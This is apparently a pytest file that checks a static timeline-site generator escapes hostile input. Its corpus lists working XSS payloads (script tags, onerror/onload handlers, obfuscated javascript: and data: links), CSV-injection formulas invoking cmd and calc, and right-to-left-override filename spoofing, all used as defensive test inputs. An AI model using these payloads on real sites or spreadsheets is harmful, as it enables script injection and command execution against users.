"""Hostile content in every field that reaches a page.

A temporary project puts script tags, event-handler attributes,
``javascript:``/``data:``/``vbscript:`` links in every spelling, ``</script>``,
``]]>``, control characters and Unicode direction overrides into the site
title and description, source titles, publishers and notes, and into every
text field of events (title, summary, place, actors, tags, date_note,
editor_note, differences, quotes — the quoted passages stand in a source
document of their own so that they verify). It must build; then

(a) every HTML page, parsed with html.parser, has no ``on*`` attribute, no
    script but ours (filter.js by src, and JSON-LD data blocks that parse as
    JSON), and no href/src/action with a scheme other than http, https or
    mailto;
(b) every page, opened in Chromium with alert/confirm/prompt hooked and a
    dialog handler, opens no dialog and runs no script but ours;
(c) every page carries a Content-Security-Policy meta tag with
    ``default-src 'self'`` and no 'unsafe-inline', and a referrer policy; in
    the browser no ``securitypolicyviolation`` event fires — the shipped site
    is opened too, so no page needs more than the policy allows;

and the data files (feed.xml, events.json, timeline.json, ...) are
well-formed, with the summaries inside the feed as clean as the pages.
"""
from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import re
import threading
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
from conftest import toml_string

from timeline.commands.build import build
from timeline.commands.check import check

ROOT = Path(__file__).resolve().parent.parent
OUR_SCRIPTS = ("filter.js", "notes.js")  # the site's own, from site_src/static
OUR_SCRIPT_ENDINGS = tuple(f"/{name}" for name in OUR_SCRIPTS)

# --- the corpus -------------------------------------------------------------

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<div onclick=\"alert(1)\" onmouseover='alert(1)'>hover</div>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>raw link</a>",
    "<a href=\"jav&#x61;script:alert(1)\">entity link</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %} ${alert(1)}",
    "<!--root-->",
    # Spreadsheet formulas, for events.csv (CSV injection).
    "=HYPERLINK(\"https://evil.example/\",\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1 formula",
]
LINKS = [
    "[plain](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[entity](jav&#x61;script:alert(1))",
    "[entity decimal](&#106;avascript:alert(1))",
    "[percent](javascript%3Aalert(1))",
    "[leading space](  javascript:alert(1))",
    "[tab](java\tscript:alert(1))",
    "[newline](java\nscript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vbscript](vbscript:msgbox(1))",
    "[VBS](VBScript:msgbox(1))",
    "<javascript:alert(1)>",
    "[reference][r]\n\n[r]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    "![image](x \"onerror=alert(1)\")",
    "[title attr](https://example.org/ \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[ok](https://example.org/?q=<script>)",
]
# Control characters other than \t \n \r, as TOML escapes (raw ones are a
# TOML syntax error: a bad input, tested in tests/test_bad_inputs.py).
CONTROLS = "C0 \x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f and DEL \x7f end"
RLO = "Evil \u202eelif.exe\u202c and \u202etxt.abc"
# Text the checker refuses outright, in any field: controls HTML forbids, and
# direction overrides that would reorder the text around them.
REFUSED = [CONTROLS, RLO, "[null](java\x00script:alert(1))"]
HOSTILE = SCRIPTS + LINKS




def quotable(text: str) -> str:
    """The hostile text as it can stand in a plain-text document and be quoted."""
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", text).replace("\t", " ").replace("\n", " ").strip()


def hostile_project(folder: Path, corpus=HOSTILE, source_file: str = "sources/hostile.txt") -> Path:
    """An events file with `corpus` in every field; returns its path."""
    (folder / Path(source_file).parent).mkdir(parents=True, exist_ok=True)
    lines = ["A document of hostile passages", ""] + [quotable(h) for h in corpus] + [""]
    (folder / source_file).write_text("\n".join(lines), encoding="utf-8")
    first, second = corpus[0], corpus[1 % len(corpus)]
    out = [
        "[site]",
        f"title = {toml_string('Hostile ' + first)}",
        f"description = {toml_string(second)}",
        "",
        "[sources.hostile]",
        f"title = {toml_string(first)}",
        f"file = {toml_string(source_file)}",
        f"publisher = {toml_string(second)}",
        'url = "https://example.org/a?b=1&c=javascript:alert(1)"',
        f"note = {toml_string(' '.join(corpus[:8]))}",
        "",
    ]
    for i, text in enumerate(corpus):
        quote = quotable(text)
        out += [
            "[[events]]",
            f'id = "hostile-{i}"',
            f'date = "2022-03-{i % 28 + 1:02d}"',
            f"date_note = {toml_string(text)}",
            f"title = {toml_string(text)}",
            f"summary = {toml_string(text + ' and ' + LINKS[i % len(LINKS)])}",
            f"place = {toml_string(text)}",
            f"actors = [{toml_string(text)}]",
            f"tags = [{toml_string(text)}]",
            f"editor_note = {toml_string(text)}",
            "",
            "  [[events.citations]]",
            '  source = "hostile"',
            f"  quote = {toml_string(quote)}",
            "",
            "  [[events.differences]]",
            f"  about = {toml_string(text)}",
            f"  note = {toml_string(text)}",
            "",
            "    [[events.differences.versions]]",
            f"    claim = {toml_string(text)}",
            '    source = "hostile"',
            f"    quote = {toml_string(quote)}",
            "",
            "    [[events.differences.versions]]",
            f"    claim = {toml_string(second)}",
            '    source = "hostile"',
            f"    quote = {toml_string(quotable(second))}",
            "",
        ]
    events = folder / "events.toml"
    events.write_text("\n".join(out), encoding="utf-8")
    return events


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    events = hostile_project(folder)
    site, problems = build(events, folder / "public", "events.toml")
    assert site is not None, "the hostile record does not build:\n" + "\n".join(map(str, problems))
    assert len(site.events) == len(HOSTILE)
    return folder / "public"


def html_pages(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.html"))


# --- (a) the pages as parsed HTML ------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "cite",
                  "srcset", "ping", "manifest", "codebase", "longdesc", "usemap", "icon"}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "button", "input",
                  "textarea", "style", "link-import", "portal", "template", "noscript"}
OUR_FORM_TAGS = {"form", "input", "button", "select", "option", "label"}  # the filter form on index.html
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
BIDI_OPENERS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
BIDI_CLOSERS = {"\u202c": "\u202a\u202b\u202d\u202e", "\u2069": "\u2066\u2067\u2068"}


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: leading/trailing C0 and spaces trimmed,
    tabs and newlines removed inside (the URL standard), entities decoded by
    the parser already."""
    cleaned = re.sub(r"[\t\n\r]", "", value.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d"
                                                    "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b"
                                                    "\x1c\x1d\x1e\x1f\x20"))
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class PageAudit(HTMLParser):
    """Everything on a page that could run code or leave the site's rules."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.scripts: list[dict] = []
        self.metas: list[dict] = []
        self.stack: list[str] = []
        self.text_nodes: list[tuple[tuple[str, ...], str]] = []
        self._script: dict | None = None

    def handle_starttag(self, tag, attrs):
        self._start(tag, attrs)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._start(tag, attrs)

    def _start(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.findings.append(f"<{tag}> has an event-handler attribute {name}={value!r}")
            if name.lower() in URL_ATTRIBUTES and value is not None:
                for part in (value.split(",") if name.lower() == "srcset" else [value]):
                    scheme = url_scheme(part.strip().split(" ")[0] if name.lower() == "srcset" else part)
                    if scheme is not None and scheme not in ALLOWED_SCHEMES:
                        self.findings.append(f"<{tag} {name}={value!r}>: scheme {scheme!r}")
            if name.lower() == "style":
                self.findings.append(f"<{tag}> has an inline style attribute {value!r}")
        if tag in FORBIDDEN_TAGS and tag not in OUR_FORM_TAGS:
            self.findings.append(f"forbidden element <{tag}>")
        if tag == "meta":
            self.metas.append(attributes)
            if (attributes.get("http-equiv") or "").lower() not in ("", "content-security-policy"):
                self.findings.append(f"<meta http-equiv={attributes.get('http-equiv')!r}>")
        if tag == "script":
            self._script = {"attrs": attributes, "text": ""}
            self.scripts.append(self._script)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        if self._script is not None:
            self._script["text"] += data
        self.text_nodes.append((tuple(self.stack), data))

    def handle_comment(self, data):
        self.findings.append(f"an HTML comment in the output: <!--{data[:60]}-->")


def audit(page: Path, site: Path) -> PageAudit:
    parser = PageAudit()
    parser.feed(page.read_text(encoding="utf-8"))
    parser.close()
    for script in parser.scripts:
        attrs = script["attrs"]
        if attrs.get("type") == "application/ld+json" and "src" not in attrs:
            try:
                json.loads(script["text"])
            except ValueError as error:
                parser.findings.append(f"JSON-LD that is not JSON: {error}")
            if "<" in script["text"]:
                parser.findings.append("a '<' inside a JSON-LD block")
            continue
        src = attrs.get("src") or ""
        target = (page.parent / unquote(src)).resolve() if src else None
        ours = target in {(site / name).resolve() for name in OUR_SCRIPTS} and not script["text"].strip()
        if not ours:
            parser.findings.append(f"a script that is not ours: {attrs!r} {script['text'][:80]!r}")
    return parser


def test_hostile_record_builds_with_every_event(hostile_site):
    pages = html_pages(hostile_site)
    assert len(pages) >= len(HOSTILE) + 5
    for i in range(len(HOSTILE)):
        assert (hostile_site / "events" / f"hostile-{i}" / "index.html").is_file()


def test_no_handlers_foreign_scripts_or_unsafe_urls_on_any_page(hostile_site):
    findings = []
    for page in html_pages(hostile_site):
        findings += [f"{page.relative_to(hostile_site)}: {f}" for f in audit(page, hostile_site).findings]
    assert findings == []


def test_hostile_text_is_shown_as_text(hostile_site):
    """The escaped corpus is visible as text: nothing was silently dropped
    from titles, and the markup in them is characters, not elements."""
    for i, text in enumerate(HOSTILE[:len(SCRIPTS)]):
        page = (hostile_site / "events" / f"hostile-{i}" / "index.html").read_text(encoding="utf-8")
        parser = PageAudit()
        parser.feed(page)
        visible = "".join(data for stack, data in parser.text_nodes if "h1" in stack)
        assert text.strip() in visible, (i, text)


def test_no_control_characters_in_pages(hostile_site):
    """HTML forbids C0 controls other than whitespace and DEL in text (the Nu
    checker reports them as errors); they must not reach a page."""
    bad = re.compile(r"[\x00-\x08\x0b\x0e-\x1f\x7f]")
    found = []
    for page in html_pages(hostile_site):
        for match in bad.finditer(page.read_text(encoding="utf-8")):
            found.append(f"{page.relative_to(hostile_site)}: U+{ord(match.group()):04X}")
    assert found == []


def test_direction_overrides_cannot_reach_beyond_their_own_text(hostile_site):
    """A right-to-left override in a title must not reorder the text around
    it: each one closed in its own text node, or the text isolated (<bdi>,
    or an element with dir)."""
    found = []
    for page in html_pages(hostile_site):
        parser = PageAudit()
        parser.feed(page.read_text(encoding="utf-8"))
        for stack, data in parser.text_nodes:
            if not any(ch in data for ch in BIDI_OPENERS) or "bdi" in stack:
                continue
            depth = 0
            for ch in data:
                if ch in BIDI_OPENERS:
                    depth += 1
                elif ch in BIDI_CLOSERS and depth:
                    depth -= 1
            if depth:
                found.append(f"{page.relative_to(hostile_site)}: {data.strip()[:40]!r} inside {'/'.join(stack[-3:])}")
    assert found == []


def test_direction_override_in_an_id_is_refused(tmp_path):
    events = hostile_project(tmp_path, corpus=["plain"])
    text = events.read_text(encoding="utf-8").replace('id = "hostile-0"', 'id = "hostile-\u202e0"')
    events.write_text(text, encoding="utf-8")
    site, problems = check(events, "events.toml")
    assert site is None
    assert [p.message for p in problems
            if "must be lowercase letters" in p.message or "'id' contains a Unicode direction control" in p.message]


def test_source_file_named_like_a_url_scheme(tmp_path):
    events = hostile_project(tmp_path, corpus=["plain words"], source_file="sources/javascript:alert(1).txt")
    site, problems = build(events, tmp_path / "public", "events.toml")
    assert site is not None, problems
    findings = []
    for page in html_pages(tmp_path / "public"):
        findings += audit(page, tmp_path / "public").findings
    assert findings == []


# --- (c) the policy on every page, statically ------------------------------

def _policy(page: Path) -> tuple[str | None, str | None]:
    parser = PageAudit()
    parser.feed(page.read_text(encoding="utf-8"))
    csp = [m.get("content") for m in parser.metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
    referrer = [m.get("content") for m in parser.metas if m.get("name") == "referrer"]
    return (csp[0] if len(csp) == 1 else None), (referrer[0] if len(referrer) == 1 else None)


@pytest.mark.parametrize("which", ["hostile", "shipped"])
def test_every_page_has_a_strict_policy_and_referrer(request, which):
    folder = request.getfixturevalue("hostile_site" if which == "hostile" else "site_dir")
    missing = []
    for page in html_pages(folder):
        csp, referrer = _policy(page)
        directives = {d.strip().split(" ")[0]: d.strip() for d in (csp or "").split(";") if d.strip()}
        if csp is None or directives.get("default-src") != "default-src 'self'" or "unsafe-inline" in csp \
                or "unsafe-eval" in csp:
            missing.append(f"{page.relative_to(folder)}: CSP {csp!r}")
        if referrer not in ("no-referrer", "same-origin", "strict-origin", "strict-origin-when-cross-origin"):
            missing.append(f"{page.relative_to(folder)}: referrer {referrer!r}")
    assert missing == []


# --- the data files ---------------------------------------------------------

def _fragment_findings(fragment: str) -> list[str]:
    parser = PageAudit()
    parser.feed(fragment)
    parser.close()
    return parser.findings + [f"script in a fragment: {s['attrs']}" for s in parser.scripts]


def test_data_files_are_well_formed_and_clean(hostile_site):
    checked = []
    feed = hostile_site / "feed.xml"
    if feed.exists():
        root = ET.parse(feed).getroot()
        ns = {"a": "http://www.w3.org/2005/Atom"}
        entries = root.findall("a:entry", ns)
        assert len(entries) == len(HOSTILE)
        for entry in entries:
            for element in entry.iter():
                if element.get("type") == "html" and element.text:
                    assert _fragment_findings(element.text) == [], element.text[:200]
            for link in entry.findall("a:link", ns):
                assert url_scheme(link.get("href")) in (None, *ALLOWED_SCHEMES)
        checked.append("feed.xml")
    for name in ("events.json", "timeline.json", "events.json.schema.json"):
        path = hostile_site / name
        if path.exists():
            json.loads(path.read_text(encoding="utf-8"))
            checked.append(name)
    timeline = hostile_site / "timeline.json"
    if timeline.exists():
        # TimelineJS puts text.headline/text.text into the page as HTML.
        data = json.loads(timeline.read_text(encoding="utf-8"))
        for slide in data.get("events", []) + ([data["title"]] if "title" in data else []):
            for value in (slide.get("text") or {}).values():
                assert _fragment_findings(value) == [], value[:200]
    csv_path = hostile_site / "events.csv"
    if csv_path.exists():
        rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"), newline="")))
        assert len(rows) == len(HOSTILE) + 1
        assert len({len(row) for row in rows}) == 1
        checked.append("events.csv")
    ics = hostile_site / "events.ics"
    if ics.exists():
        text = ics.read_bytes().decode("utf-8")
        assert text.startswith("BEGIN:VCALENDAR\r\n") and text.rstrip("\r\n").endswith("END:VCALENDAR")
        assert all(line.endswith("\r") or not line for line in text.split("\n")[:-1])
        checked.append("events.ics")
    for sitemap in hostile_site.glob("sitemap*.xml"):
        ET.parse(sitemap)
        checked.append(sitemap.name)
    print("data files checked:", ", ".join(checked) or "none produced")


def test_csv_cells_cannot_start_a_formula(hostile_site):
    csv_path = hostile_site / "events.csv"
    if csv_path.exists():
        rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"), newline="")))
        formulas = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert formulas == []
    else:  # nothing to check until the file is produced; a strict xfail must still fail
        raise AssertionError("events.csv is not produced")


# --- (b) and (c) in the browser ------------------------------------------------

INIT_SCRIPT = """
(() => {
  window.__pwned = [];
  window.__csp = [];
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => { window.__pwned.push(name + ':' + args.join(',')); };
  }
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sourceFile || '') + ':' + e.lineNumber);
  });
})();
"""
PAGE_REPORT = """
() => ({
  pwned: window.__pwned,
  csp: window.__csp,
  scripts: [...document.scripts].map(s => s.src ? 'src:' + new URL(s.src).pathname : 'inline:' + s.type),
  loaded: performance.getEntriesByType('resource').filter(r => r.initiatorType === 'script').map(r => new URL(r.name).pathname),
})
"""


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format, *args):
        pass


class serving:
    """A folder on a free port of 127.0.0.1, as a context manager giving its URL."""

    def __init__(self, folder: Path):
        handler = functools.partial(_Quiet, directory=str(folder))
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> str:
        self.thread.start()
        return f"http://127.0.0.1:{self.server.server_address[1]}/"

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture(scope="module")
def hostile_url(hostile_site):
    with serving(hostile_site) as url:
        yield url


def browse_every_page(page, base_url: str, folder: Path) -> list[str]:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(f"{dialog.type}: {dialog.message}"), dialog.dismiss()))
    page.add_init_script(INIT_SCRIPT)
    problems = []
    for path in html_pages(folder):
        relative = path.relative_to(folder).as_posix()
        url = base_url + relative.removesuffix("index.html")
        response = page.goto(url, wait_until="load")
        assert response is not None and response.status in (200, 404), (url, response and response.status)
        report = page.evaluate(PAGE_REPORT)
        for key in ("pwned", "csp"):
            problems += [f"{relative}: {key}: {item}" for item in report[key]]
        for script in report["scripts"]:
            if script != "inline:application/ld+json" and not script.endswith(OUR_SCRIPT_ENDINGS):
                problems.append(f"{relative}: script element {script}")
        for loaded in report["loaded"]:
            if not loaded.endswith(OUR_SCRIPT_ENDINGS):
                problems.append(f"{relative}: loaded script {loaded}")
        problems += [f"{relative}: dialog {d}" for d in dialogs]
        dialogs.clear()
    return problems


def test_browser_every_hostile_page_runs_nothing_but_ours(page, hostile_url, hostile_site):
    assert browse_every_page(page, hostile_url, hostile_site) == []


def test_browser_every_shipped_page_needs_no_more_than_the_policy(page, site_url, site_dir):
    assert browse_every_page(page, site_url, site_dir) == []


PLANTED = {
    # Our policy, and a script it blocks: a violation is reported.
    "blocked/index.html": "<!doctype html><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">"
                          "<title>x</title><script>alert('inline')</script><img src=x onerror=alert(2)>",
    # No policy: the script runs and the hooked alert records it, a dialog from a frame is seen.
    "open/index.html": "<!doctype html><title>x</title><script>alert('ran'); window.confirm('c')</script>"
                       "<script src='evil.js'></script>",
    "open/evil.js": "prompt('external')",
}


def test_browser_harness_catches_planted_scripts(page, tmp_path):
    """The checks above would see an escaping mistake: planted pages fail them."""
    for name, body in PLANTED.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(body, encoding="utf-8")
    with serving(tmp_path) as url:
        problems = browse_every_page(page, url, tmp_path)
    text = "\n".join(problems)
    assert "blocked/index.html: csp: script-src-elem inline" in text
    assert "open/index.html: pwned: alert:ran" in text and "open/index.html: pwned: confirm:c" in text
    assert "open/index.html: pwned: prompt:external" in text
    assert "open/index.html: script element src:/open/evil.js" in text
    assert "open/index.html: loaded script /open/evil.js" in text


def test_browser_filter_script_still_runs_under_the_policy(page, hostile_url):
    """The policy must not stop our own script: the filter form appears."""
    page.goto(hostile_url)
    page.wait_for_selector("#filters:not([hidden])", timeout=5000)


@pytest.mark.parametrize("text", REFUSED)
def test_controls_and_direction_overrides_are_refused_in_every_field(tmp_path, text):
    events = hostile_project(tmp_path, corpus=[text, "plain words"])
    site, problems = check(events, "events.toml")
    assert site is None
    fields = {"title", "publisher", "note", "date_note", "place", "actors", "tags",
              "editor_note", "about", "claim"}
    named = {m.group(1) for p in problems
             if (m := re.search(r"'(\w+)'(?: entry .*)? contains a (?:control character|Unicode direction control)",
                                p.message))}
    assert fields - {"publisher", "note"} <= named, sorted(named)
    assert all(p.line for p in problems)
